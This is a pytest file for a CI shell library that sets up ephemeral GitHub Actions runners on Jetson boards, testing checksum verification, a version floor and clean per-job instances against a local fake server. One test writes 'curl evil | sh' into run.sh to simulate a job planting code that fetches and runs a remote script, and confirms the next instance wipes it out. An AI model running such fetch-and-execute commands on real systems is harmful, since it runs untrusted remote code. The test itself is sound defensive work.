"""ci/jetson/runner-lib.sh with fakes (issue 17.6, 17.10): the runner release and the ORT wheel are
verified before use, the version floor holds, stale registrations are removed, every job's instance
starts clean, the power mode comes from the board's one strict profile reader. A static HTTP server on
127.0.0.1 plays GitHub's releases API and the Jetson Zoo; a recorded sysroot plays the board.
"""

from __future__ import annotations

import functools
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
LIB = REPO / "ci" / "jetson" / "runner-lib.sh"


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture
def web(tmp_path):
    root = tmp_path / "web"
    root.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield root, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def runner_tarball() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in {"run.sh": "#!/bin/sh\necho run\n", "config.sh": "#!/bin/sh\necho config\n"}.items():
            info = tarfile.TarInfo(name)
            info.mode, data = 0o755, text.encode()
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def publish(web, version: str, published_sha: str | None = None, digest: str | None = None) -> str:
    root, url = web
    name = f"actions-runner-linux-arm64-{version}.tar.gz"
    data = runner_tarball()
    (root / name).write_bytes(data)
    sha = published_sha or hashlib.sha256(data).hexdigest()
    body = "## SHA-256 Checksums\n\n" + "\n".join(
        f"- actions-runner-{p}-{version}.tar.gz <!-- BEGIN SHA {p} -->{s}<!-- END SHA {p} -->"
        for p, s in (("linux-x64", "0" * 64), ("linux-arm64", sha))
    )
    asset = {"name": name, "browser_download_url": f"{url}/{name}"}
    if digest:
        asset["digest"] = digest
    (root / "latest").write_text(json.dumps({"tag_name": f"v{version}", "body": body, "assets": [asset]}))
    return hashlib.sha256(data).hexdigest()


def bash(script: str, web=None, **env: str) -> subprocess.CompletedProcess[str]:
    full = {"PATH": os.environ["PATH"], **env}
    if web:
        full["RUNNER_RELEASES_API"] = f"{web[1]}/latest"
    return subprocess.run(
        ["bash", "-c", f"set -euo pipefail; source {LIB}; {script}"], env=full, capture_output=True, text=True
    )


def test_the_latest_release_is_installed_verified_and_read_only(web, tmp_path):
    sha = publish(web, "2.336.0", digest=None)
    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
    assert proc.returncode == 0, proc.stderr
    assert f"actions/runner 2.336.0 ({sha})" in proc.stdout
    assert (tmp_path / "dist/current").resolve() == (tmp_path / "dist/2.336.0").resolve()
    assert (tmp_path / "dist/current/run.sh").stat().st_mode & 0o022 == 0  # not group/other-writable


def test_a_package_that_does_not_match_its_published_sha256_is_refused(web, tmp_path):
    publish(web, "2.336.0", published_sha="f" * 64)
    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
    assert proc.returncode != 0 and "refused:" in proc.stderr and "expected " + "f" * 64 in proc.stderr
    assert not (tmp_path / "dist").exists() or not any((tmp_path / "dist").iterdir())


def test_an_asset_digest_that_disagrees_with_the_release_notes_is_refused(web, tmp_path):
    publish(web, "2.336.0", digest="sha256:" + "e" * 64)
    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
    assert proc.returncode != 0 and "disagrees with the release notes" in proc.stderr


def test_a_release_below_the_floor_is_refused(web, tmp_path):
    publish(web, "2.321.0")
    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
    assert proc.returncode != 0 and "2.321.0 is older than 2.329.0" in proc.stderr
    assert (
        bash("version_ge 2.329.0 2.329.0 && version_ge 2.330.1 2.329.0 && ! version_ge 2.99.0 2.329.0").returncode == 0
    )


def test_stale_registration_files_are_removed_and_nothing_else(tmp_path):
    for name in (".runner", ".credentials", ".credentials_rsaparams", ".env", "run.sh"):
        (tmp_path / name).write_text("x")
    assert bash(f"clean_stale_registration {tmp_path}").returncode == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [".env", "run.sh"]


def test_every_job_gets_a_fresh_instance(web, tmp_path):
    publish(web, "2.336.0")
    dist, instance = tmp_path / "dist", tmp_path / "instance"
    assert bash(f"install_runner {dist}", web).returncode == 0
    user = subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
    assert bash(f"fresh_instance {dist} {instance} {user}").returncode == 0
    (instance / "runner/run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # a job plants code ...
    (instance / "runner/.runner").write_text("{}")  # ... and is killed mid-registration
    (instance / "home/.bashrc").write_text("evil")
    assert bash(f"fresh_instance {dist} {instance} {user}").returncode == 0
    assert "evil" not in (instance / "runner/run.sh").read_text()
    assert not (instance / "runner/.runner").exists() and not (instance / "home/.bashrc").exists()
    assert "evil" not in (dist / "current/run.sh").read_text()  # the release itself was never touched


@pytest.fixture
def zoo(web):
    root, url = web
    wheel = b"PK\x03\x04 a wheel"
    (root / "9f86d081884c7d65.whl").write_bytes(wheel)  # Jetson Zoo serves <hash>.whl
    return url, hashlib.sha256(wheel).hexdigest()


def _wheels(tmp_path, url, sha, name="onnxruntime_gpu-1.11.0-cp38-cp38-linux_aarch64.whl") -> Path:
    f = tmp_path / "ort-wheels.txt"
    f.write_text(f"# comment\n36 3.10 x y z\n32 3.8 {name} {url}/9f86d081884c7d65.whl {sha}\n")
    return f


def _fake_pip(tmp_path) -> Path:
    pip = tmp_path / "pip"
    pip.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/pip.args\ncp "$3" {tmp_path}/installed.whl\n')
    pip.chmod(0o755)
    return pip


def test_the_zoo_wheel_is_saved_under_its_real_name_checked_and_installed_by_path(zoo, tmp_path):
    url, sha = zoo
    pip = _fake_pip(tmp_path)
    proc = bash(f"install_ort_wheel {_wheels(tmp_path, url, sha)} 32 3.8 {pip}")
    assert proc.returncode == 0, proc.stderr
    args = (tmp_path / "pip.args").read_text().split()
    assert args[:2] == ["install", "--no-deps"] and args[2].endswith(
        "/onnxruntime_gpu-1.11.0-cp38-cp38-linux_aarch64.whl"
    )
    assert (tmp_path / "installed.whl").read_bytes() == b"PK\x03\x04 a wheel"


@pytest.mark.parametrize(
    ("sha", "name", "why"),
    [
        ("0" * 64, None, "refused: /"),
        (None, "9f86d081884c7d65.whl", "is not an onnxruntime_gpu linux_aarch64 wheel file name"),
    ],
)
def test_a_wrong_wheel_is_never_installed(zoo, tmp_path, sha, name, why):
    url, good = zoo
    pip = _fake_pip(tmp_path)
    wheels = _wheels(tmp_path, url, sha or good, *([name] if name else []))
    proc = bash(f"install_ort_wheel {wheels} 32 3.8 {pip}")
    assert proc.returncode != 0 and why in proc.stderr and not (tmp_path / "pip.args").exists()
    assert bash(f"install_ort_wheel {wheels} 35 3.8 {pip}").returncode != 0  # no wheel pinned for L4T R35


def test_numpy_stays_below_2_for_every_install():
    constraints = (REPO / "ci" / "jetson" / "constraints.txt").read_text()
    assert "numpy<2" in [line.strip() for line in constraints.splitlines()]
    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
    assert 'pipc=("$venv/bin/python" -m pip install --quiet -c "$here/constraints.txt")' in prepare
    assert '"${pipc[@]}" opencv-python-headless' in prepare


def test_the_service_lets_a_job_write_only_its_instance_and_never_pins_the_runner():
    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
    for line in (
        "ProtectSystem=strict",
        "PrivateTmp=yes",
        "ProtectHome=yes",
        "ExecStopPost=+/opt/edgeproof/bin/runner-instance.sh remove",
    ):
        assert line in prepare, line
    assert "chown -R root:root /opt/edgeproof" in prepare and "--no-create-home" in prepare
    for script in ("prepare-runner.sh", "ephemeral-runner.sh", "runner-instance.sh"):
        text = (REPO / "ci" / "jetson" / script).read_text()
        assert "--disableupdate" not in text.replace("No --disableupdate", "") and "RUNNER_VERSION=" not in text, script
    assert "GITHUB_PAT" not in (REPO / "ci" / "jetson" / "ephemeral-runner.sh").read_text()


class TokenAndReleases(Quiet):
    """GET: the static release files; POST .../registration-token: a one-time token for the right PAT."""

    def do_POST(self):
        ok = self.headers.get("Authorization") == "Bearer github_pat_secret" and self.path.endswith(
            "/repos/o/r/actions/runners/registration-token"
        )
        body = json.dumps({"token": "AREGTOKEN"} if ok else {"message": "Bad credentials"}).encode()
        self.send_response(201 if ok else 401)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_the_root_half_prepares_a_fresh_instance_and_a_one_time_token(tmp_path):
    root = tmp_path / "web"
    root.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(TokenAndReleases, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}"
    try:
        publish((root, url), "2.336.0")
        secrets = tmp_path / "runner.env"
        secrets.write_text("GITHUB_REPO=o/r\nGITHUB_PAT=github_pat_secret\n")
        user = subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
        env = {
            "PATH": os.environ["PATH"],
            "RUNNER_RELEASES_API": f"{url}/latest",
            "GITHUB_API_URL": url,
            "EDGEPROOF_RUNNER_ENV": str(secrets),
            "EDGEPROOF_RUNNER_DIST": str(tmp_path / "dist"),
            "EDGEPROOF_RUNNER_INSTANCE": str(tmp_path / "instance"),
            "EDGEPROOF_RUNNER_USER": user,
        }
        script = str(REPO / "ci/jetson/runner-instance.sh")
        (tmp_path / "instance").mkdir()
        (tmp_path / "instance/planted.sh").write_text("left by the last job")
        proc = subprocess.run(["bash", script, "prepare"], env=env, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        inst = tmp_path / "instance"
        assert not (inst / "planted.sh").exists() and (inst / "runner/run.sh").exists()
        assert (inst / "registration-token").read_text().strip() == "AREGTOKEN"
        assert (inst / "registration-token").stat().st_mode & 0o077 == 0
        assert "github_pat" not in "".join(p.read_text() for p in inst.glob("*.env"))  # the PAT stays with root
        assert subprocess.run(["bash", script, "remove"], env=env).returncode == 0 and not inst.exists()
        secrets.write_text("GITHUB_REPO=o/r\nGITHUB_PAT=wrong\n")
        proc = subprocess.run(["bash", script, "prepare"], env=env, capture_output=True, text=True)
        assert proc.returncode != 0 and not (tmp_path / "instance/registration-token").exists()
    finally:
        server.shutdown()


SYSROOT = REPO / "tests" / "fixtures" / "sysroot"


def _checkout(tmp_path: Path, params: str) -> Path:
    """A checkout as prepare-runner.sh sees it: the repository's src/ and the given params.yaml."""
    root = tmp_path / "checkout"
    root.mkdir()
    (root / "src").symlink_to(REPO / "src")
    (root / "params.yaml").write_text(params)
    return root


def _power(fn: str, checkout: Path, arg: str, board: str = "jetson-orin-nano") -> subprocess.CompletedProcess[str]:
    return bash(f"{fn} {sys.executable} {checkout} {arg}", EDGEPROOF_SYSROOT=str(SYSROOT / board))


def test_the_power_mode_is_read_by_the_boards_strict_profile_reader(tmp_path):
    params = (REPO / "params.yaml").read_text()
    checkout = _checkout(tmp_path, params)
    assert _power("profile_power_mode", checkout, "jetson-orin-nano").stdout == "MAXN_SUPER\n"
    assert _power("profile_power_mode", checkout, "cpu-ci").stdout == "\n"  # requires none: not an error
    assert _power("board_power_mode_id", checkout, "MAXN_SUPER").stdout == "2\n"
    proc = _power("board_power_mode_id", checkout, "MAXN_SUPER", board="jetson-nano")
    assert proc.returncode != 0 and "set POWER_MODE_ID" in proc.stderr
    proc = _power("profile_power_mode", checkout, "jetson-orin")
    assert proc.returncode != 0 and "no profile 'jetson-orin'" in proc.stderr and not proc.stdout.strip()


def test_a_key_given_twice_stops_the_set_up_as_it_stops_the_jobs(tmp_path):
    """PyYAML alone keeps the last of two keys: the set-up would set 7W where the jobs refuse the file."""
    params = (REPO / "params.yaml").read_text()
    twice = params.replace("    power_mode: MAXN_SUPER\n", "    power_mode: MAXN_SUPER\n    power_mode: 7W\n", 1)
    assert twice != params
    proc = _power("profile_power_mode", _checkout(tmp_path, twice), "jetson-orin-nano")
    assert proc.returncode != 0 and "duplicate key 'power_mode'" in proc.stderr and not proc.stdout.strip()


def test_prepare_runner_has_no_yaml_reader_of_its_own():
    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
    assert "import yaml" not in prepare and "safe_load" not in prepare  # pyyaml is only installed
    assert 'mode="$(profile_power_mode "$venv/bin/python" "$repo_root" "$PROFILE")" || exit 1' in prepare
    # the venv exists (step 2) before the profile is read (step 4)
    assert prepare.index('"$python" -m venv "$venv"') < prepare.index("profile_power_mode")


def test_the_set_up_refuses_a_board_the_profile_never_matches(tmp_path):
    """docs12 review: any R36 passed the set-up, so a JetPack 6.0 Orin (L4T 36.3; the profile asks 36.4.3+)
    became a runner whose every pull request then failed machine_match."""
    checkout = _checkout(tmp_path, (REPO / "params.yaml").read_text())
    assert _power("profile_matches_board", checkout, "jetson-orin-nano").returncode == 0
    proc = _power("profile_matches_board", checkout, "jetson-orin-nano", board="jetson-nano")
    assert proc.returncode != 0 and "does not match profile jetson-orin-nano" in proc.stderr
    assert "l4t_min" in proc.stderr
    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
    assert 'profile_matches_board "$venv/bin/python" "$repo_root" "$PROFILE" || exit 1' in prepare
    assert prepare.index('"$python" -m venv "$venv"') < prepare.index("profile_matches_board")
